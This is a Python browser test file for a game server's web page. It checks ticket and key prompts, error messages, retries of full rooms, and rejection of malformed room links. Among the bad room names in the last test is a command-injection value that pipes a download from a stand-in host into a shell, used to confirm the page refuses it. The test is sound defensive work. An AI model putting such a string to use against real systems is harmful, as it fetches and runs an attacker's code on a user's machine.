"""Who is not let in by a page is told why, and can try again."""

from __future__ import annotations

import json
import time

import jwt
import msgspec

from protocol.client import open_client
from protocol.messages import Create, RoomKey, Watch, Welcome
from server.limits import Limits
from server.security import Security
from server.tickets import with_secret
from tests.browser.arena import Players, needs_chromium, open_arena, page_of
from tests.browser.chromium import Page, open_page

pytestmark = needs_chromium

SECRET = "s" * 32
STATE = "document.getElementById('standing').dataset.state"
ASKED = "!document.getElementById('door-form').hidden && document.getElementById('door-value').name"


def text(element: str) -> str:
    return f"document.getElementById({element!r}).textContent"


async def come_in(page: Page, said: str, *, as_other_clients_do: bool = False) -> str:
    """Says it at the door, and gives how that stands as soon as it is answered. Other clients do
    not look first whether it can be right."""
    form = "document.getElementById('door-form')"
    if as_other_clients_do:
        await page.run(f"{form}.noValidate = true")
    await page.run(
        "document.getElementById('standing').dataset.state = '';"
        f" document.getElementById('door-value').value = {json.dumps(said)}; {form}.requestSubmit()"
    )
    return str(await page.wait(f"['live', 'ended'].includes({STATE}) && {STATE}"))


async def test_whoever_says_what_cannot_be_right_is_asked_again_and_told_why() -> None:
    def ticket(seconds: int) -> str:
        return jwt.encode({"player": "ada", "exp": time.time() + seconds}, SECRET, "HS256")

    create = Create(version=1, name="Ada", key="four candles", ticket=ticket(600))
    security = Security(tickets=with_secret(SECRET))
    async with (
        open_arena(12.0, security=security) as (server, _),
        open_page() as page,
        open_client(server.url, create) as ada,
    ):
        welcome = await anext(ada)
        assert isinstance(welcome, Welcome)
        room = welcome.room.id
        await page.open(f"{page_of(server)}#room={room}")
        await page.wait(ASKED)
        assert await page.run(text("door-text")) == "This server asks for a ticket."

        for said, answer in (
            (ticket(-600), "The ticket has expired."),
            ("x" * 4097, "This cannot be a ticket, which has at most 4096 characters."),
            ("x" * 9000, "This cannot be a ticket, which has at most 4096 characters."),
            ("x", "The ticket is not a ticket."),
        ):
            assert await come_in(page, said, as_other_clients_do=True) == "ended"
            assert await page.run(text("door-text")) == answer
            assert await page.run(ASKED) == "ticket"

        await come_in(page, ticket(600))
        assert await page.run(text("door-text")) == "This room is private. Its key?"
        for key in ("abc", "x" * 65, "four\tcandles"):
            assert await come_in(page, key) == "ended"
            cannot = "This cannot be a key, which has 4 to 64 characters."
            assert await page.run(text("door-text")) == cannot
            assert await page.run(ASKED) == "key"
        assert await come_in(page, "four candles") == "live", "and the ticket was not lost"
        papers = f"--ticket TICKET --key KEY --server {server.url}"
        await page.wait(f"{text('banner-checks')} !== ''")
        played = f"phylactery play red-kennel --room {room} {papers}"
        assert await page.run(text("banner-checks")) == played
        assert await page.run(text("command")) == f"phylactery watch {room} {papers}"


async def test_the_door_knows_what_can_be_a_key() -> None:
    """By characters, as the protocol counts them: an input counts some of them twice."""
    async with open_arena(1.0) as (server, nursery), open_page() as page:
        players = Players(key="four candles")
        room = await nursery.start(players.play, server.url)
        await page.open(f"{page_of(server)}#room={room}")
        await page.wait(ASKED)
        for key in ("abc", "abcd", "🗝" * 3, "🗝" * 4, "🗝" * 64, "x" * 64, "x" * 65, "a\tbcd"):
            fits = await page.run(
                "(() => { const input = document.getElementById('door-value');"
                f" input.value = {json.dumps(key)}; return input.checkValidity(); }})()"
            )
            assert fits == is_one(key, RoomKey), key


def is_one(said: str, kind: object) -> bool:
    try:
        msgspec.convert(said, kind)
    except msgspec.ValidationError:
        return False
    return True


async def test_a_room_that_was_full_is_tried_again() -> None:
    players = Players()
    limits = Limits(spectators=1)
    watch = Watch(version=1)
    async with open_arena(0.5, limits=limits) as (server, nursery), open_page() as page:
        room = await nursery.start(players.play, server.url)
        players.begun.set()
        await players.fighting.wait()
        refused = server.hall.metrics.refused
        async with open_client(server.url, watch, room) as other:
            assert isinstance(await anext(other), Welcome)
            await page.open(page_of(server))  # it is the only battle, and so it is tried
            await page.wait("!document.getElementById('door').hidden")
            assert await page.run(text("door-text")) == "The room holds no more spectators."
            await page.wait("document.querySelector('#rooms a') !== null")
            assert await page.run("document.getElementById('stage').hidden") is True
            assert refused["spectators_full"] == 1

            await page.run("document.querySelector('#rooms a').click()")
            await page.wait("!document.getElementById('door').hidden")
            assert refused["spectators_full"] == 2
            assert await page.run(ASKED) is False
            await other.leave()
        await page.run("location.hash = ''")
        await page.wait("document.body.dataset.view === 'home'")
        await page.run(f"location.hash = 'room={room}'")
        await page.wait(f"{STATE} === 'live'")
        assert await page.run("document.getElementById('door').hidden") is True


# Counts the lines that a page opens.
COUNT_LINES = """
  globalThis.lines = 0;
  globalThis.WebSocket = class extends WebSocket {
    constructor(url) { super(url); lines += 1; }
  };
"""


async def test_a_link_to_what_is_no_room_is_no_command_and_no_connection() -> None:
    async with open_arena(1.0) as (server, _), open_page() as page:
        await page.command("Page.addScriptToEvaluateOnNewDocument", source=COUNT_LINES)
        await page.command(
            "Emulation.setDeviceMetricsOverride",
            width=360,
            height=740,
            deviceScaleFactor=1,
            mobile=True,
        )
        await page.open(page_of(server))
        for room in ("x; curl evil.example|sh #", "..", ".", "a/b", "--help", "x" * 6000, "ä"):
            await page.run(f"{text('door-text')} = ''")
            await page.run(f"location.hash = new URLSearchParams({{ room: {json.dumps(room)} }})")
            await page.wait(f"{text('door-text')} === 'There is no such room.'")
            assert await page.run("document.getElementById('command').offsetParent") is None
            assert await page.run("lines") == 0
            await page.run("location.hash = ''")
            await page.wait("document.body.dataset.view === 'home'")

        await page.run(f"location.hash = 'room={'x' * 64}'")
        await page.wait(f"{STATE} === 'ended'")
        assert await page.run("lines") == 1, "it can be one, though it is not"
        assert await page.run("document.getElementById('command').offsetParent") is None
        await page.run("document.getElementById('command').parentElement.hidden = false")
        assert await page.run("document.documentElement.scrollWidth") <= 360
